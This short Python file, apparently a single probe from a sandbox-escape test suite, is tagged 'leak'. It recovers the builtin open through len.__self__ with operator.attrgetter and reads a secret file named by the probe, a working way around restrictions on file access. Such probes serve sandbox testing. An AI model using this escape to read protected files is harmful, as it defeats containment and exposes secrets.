# effect: leak
import operator


def attempt(probe):
    return operator.attrgetter("__self__.open")(len)(probe["secret_file"]).read()
